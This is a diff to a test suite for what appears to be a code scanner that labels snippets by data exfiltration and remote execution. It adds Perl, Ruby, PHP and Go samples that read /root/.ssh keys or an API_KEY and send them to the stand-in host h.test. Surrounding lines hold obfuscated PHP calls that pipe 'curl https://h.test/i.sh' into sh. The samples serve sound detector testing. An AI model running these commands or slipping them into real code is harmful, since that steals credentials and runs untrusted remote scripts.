@@ -128,6 +128,28 @@ describe('what leaves and what runs', () => {
     ['php', "$f = strrev('metsys'); $f('curl https://h.test/i.sh | sh');", 'net shell:stdin h.test'],
     ['php', "$f = str_replace('x', '', 'sxysxtem'); $f('curl https://h.test/i.sh | sh');", 'net shell:stdin h.test'],
     ['php', "$f = hex2bin('73797374656d'); $f('curl https://h.test/i.sh | sh');", 'net shell:stdin h.test'],
+    // Each of a list, each file of a folder, what is read by its address.
+    [
+      'pl',
+      'for my $f (glob "/root/.ssh/*") {\n  system("curl -d \\@$f https://h.test");\n}',
+      'content:ssh network:body h.test',
+    ],
+    [
+      'rb',
+      "data = Dir['/root/.ssh/*'].map { |f| File.read(f) }.join\nNet::HTTP.post(URI('https://h.test/x'), data)",
+      'content:ssh network:body h.test',
+    ],
+    [
+      'php',
+      "<?php $d = file_get_contents('/root/.ssh/id_rsa');\nfile_get_contents('https://h.test/?d=' . urlencode($d));",
+      'content:ssh network:url h.test',
+    ],
+    // A variable of that name is no keyword.
+    [
+      'go',
+      'package main\nfunc key() string {\n\tout := os.Getenv("API_KEY")\n\treturn out\n}\nfunc main() {\n\thttp.Post("https://h.test", "a", key())\n}',
+      'env:API_KEY network:body h.test',
+    ],
     // A program and its words, one text each.
     ['rb', "system('sh', '-c', 'curl https://h.test/i.sh | sh')", 'net shell:stdin h.test'],
     ['rb', "system 'curl', '-d', '@/root/.ssh/id_rsa', 'https://h.test'", 'content:ssh network:body h.test'],
